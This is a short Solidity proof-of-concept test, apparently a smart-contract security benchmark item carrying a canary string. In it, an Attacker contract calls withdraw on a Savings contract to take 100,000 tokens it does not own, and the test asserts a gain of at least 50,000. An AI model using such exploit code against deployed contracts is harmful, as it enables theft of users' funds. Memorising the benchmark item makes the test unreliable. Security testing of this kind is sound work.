// SPDX-License-Identifier: AGPL-3.0-only
pragma solidity 0.8.30;

// assay-canary-19c91a33-13db-4307-8ceb-653928c9b402
import "../Base.sol";

contract Attacker {
    function run(Savings savings) external {
        try savings.withdraw(100_000e18, address(this)) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
    }

    function exploit() public {
        other.run(savings);
    }

    function test_Exploit() public {
        exploit();
        require(dollar.balanceOf(address(other)) >= 50_000e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(savings);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
